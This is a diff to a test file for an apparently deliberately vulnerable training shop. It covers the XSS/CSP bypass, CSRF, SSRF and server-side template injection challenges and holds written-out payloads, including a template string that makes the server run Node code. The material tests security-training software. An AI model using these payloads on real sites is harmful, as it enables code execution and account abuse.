@@ -2,9 +2,9 @@ import request from 'supertest'
 import { afterEach, describe, expect, it } from 'vitest'
 import { loadConfig } from '../../config/load'
 import { createTestShop } from '../../testing/test-app'
+import { profileAttacks, MALWARE_SOLVE_PATH, serverSideRequestTemplate } from './profile.attacks'
 import { eventually, JIM, sessionCookie, startShop, userRow, type RunningShop } from './profile.testing'
 
-const SOLVE_URL_PATH = '/solve/challenges/server-side?key=tRy_H4rd3r_n0thIng_iS_Imp0ssibl3'
 const XSS_SCRIPT = '<script>alert(`xss`)</script>'
 
 let running: RunningShop | undefined
@@ -16,13 +16,7 @@ afterEach(async () => {
 describe('usernameXssChallenge (CSP Bypass)', () => {
   it('is solved by injecting the CSP through the image URL and smuggling a script past the username filter', async () => {
     const shop = createTestShop()
-    const cookie = await sessionCookie(shop)
-    await request(shop.app).post('/profile/image/url').set('Cookie', cookie).type('form')
-      .send({ imageUrl: "https://a.png; script-src 'unsafe-inline' 'self' 'unsafe-eval'" }).expect(302)
-    await request(shop.app).post('/profile').set('Cookie', cookie).type('form')
-      .send({ username: '<<a|ascript>alert(`xss`)</script>' }).expect(302)
-
-    const page = await request(shop.app).get('/profile').set('Cookie', cookie)
+    const page = await profileAttacks.usernameXssChallenge(shop.app)
     expect(page.status).toBe(200)
     expect(page.headers['content-security-policy'])
       .toBe("img-src 'self' https://a.png; script-src 'unsafe-inline' 'self' 'unsafe-eval'; script-src 'self' 'unsafe-eval'")
@@ -55,11 +49,9 @@ describe('usernameXssChallenge (CSP Bypass)', () => {
 describe('csrfChallenge (CSRF)', () => {
   it('is solved by a form on the foreign page that changes the username with the victim\'s cookie', async () => {
     const shop = createTestShop()
-    const cookie = await sessionCookie(shop)
-    const response = await request(shop.app).post('/profile').set('Cookie', cookie)
-      .set('Origin', 'http://htmledit.squarefree.com').type('form').send({ username: 'CSRFed' })
-    expect(response.status).toBe(302)
-    expect(userRow(shop, JIM.email).username).toBe('CSRFed')
+    const response = await profileAttacks.csrfChallenge(shop.app)
+    expect(response.headers.location).toBe('/profile')
+    expect(shop.ctx.db.prepare("SELECT count(*) AS n FROM Users WHERE username = 'CSRFed'").get()).toEqual({ n: 1 })
     expect(shop.ctx.training.isSolved('csrfChallenge')).toBe(true)
   })
 
@@ -114,8 +106,7 @@ describe('csrfChallenge (CSRF)', () => {
     await request(shop.app).post('/profile').set('Cookie', cookie)
       .set('Origin', 'http://127.0.0.1:3000').type('form').send({ username: 'mine' }).expect(302)
     expect(shop.ctx.training.isSolved('csrfChallenge')).toBe(false)
-    await request(shop.app).post('/profile').set('Cookie', cookie)
-      .set('Origin', 'http://127.0.0.1:3001').type('form').send({ username: 'CSRFed' }).expect(302)
+    await profileAttacks.csrfChallenge(shop.app)
     expect(shop.ctx.training.isSolved('csrfChallenge')).toBe(true)
   })
 })
@@ -123,12 +114,15 @@ describe('csrfChallenge (CSRF)', () => {
 describe('ssrfChallenge (SSRF)', () => {
   it('is solved by making the server fetch its own secret solve URL as a profile image', async () => {
     running = await startShop()
-    const cookie = await sessionCookie(running)
-    const response = await request(running.url).post('/profile/image/url').set('Cookie', cookie).type('form')
-      .send({ imageUrl: `${running.url}${SOLVE_URL_PATH}` })
-    expect(response.status).toBe(302)
+    await profileAttacks.ssrfChallenge(running.url)
     expect(running.ctx.training.isSolved('ssrfChallenge')).toBe(true)
-    expect(userRow(running, JIM.email).profileImage).toBe('/assets/public/images/uploads/2.jpg')
+    // the 204 the server got back is stored as the (JPEG) picture
+    const attacker = running.ctx.db.prepare('SELECT id, profileImage FROM Users ORDER BY id DESC LIMIT 1').get() as { id: number; profileImage: string }
+    expect(attacker.profileImage).toBe(`/assets/public/images/uploads/${attacker.id}.jpg`)
+  })
+
+  it('needs the URL of a running shop, which it makes call itself', async () => {
+    await expect(profileAttacks.ssrfChallenge(createTestShop().app)).rejects.toThrow(/needs the URL of a running shop/)
   })
 
   it('is not solved by linking an ordinary image, nor by calling the solve URL directly', async () => {
@@ -137,7 +131,7 @@ describe('ssrfChallenge (SSRF)', () => {
     await request(running.url).post('/profile/image/url').set('Cookie', cookie).type('form')
       .send({ imageUrl: `${running.url}/assets/public/images/pulp-logo.svg` }).expect(302)
     expect(userRow(running, JIM.email).profileImage).toBe('/assets/public/images/uploads/2.svg')
-    const direct = await request(running.url).get(SOLVE_URL_PATH)
+    const direct = await request(running.url).get(MALWARE_SOLVE_PATH)
     expect(direct.status).toBe(200) // no abuse pending: the web app answers
     expect(running.ctx.training.isSolved('ssrfChallenge')).toBe(false)
   })
@@ -152,12 +146,10 @@ describe('sstiChallenge (SSTi)', () => {
 
   it('is solved by a username template that makes the server request the solve URL', async () => {
     running = await startShop()
-    const port = new URL(running.url).port
-    const page = await viewProfileWithUsername(running,
-      `#{global.process.mainModule.require('http').get('http://127.0.0.1:${port}${SOLVE_URL_PATH}')}`)
-    expect(page.status).toBe(200)
-    const shop = running
-    expect(await eventually(() => shop.ctx.training.isSolved('sstiChallenge'))).toBe(true)
+    expect(serverSideRequestTemplate(running.url)).toBe(`#{global.process.mainModule.require('http').get('${running.url}${MALWARE_SOLVE_PATH}')}`)
+    const page = await profileAttacks.sstiChallenge(running.url)
+    expect(page.text).toContain('<div class="name">')
+    expect(running.ctx.training.isSolved('sstiChallenge')).toBe(true)
   })
 
   it('is solved by the intended payload that downloads and runs the juicy malware (simulated offline)', async () => {
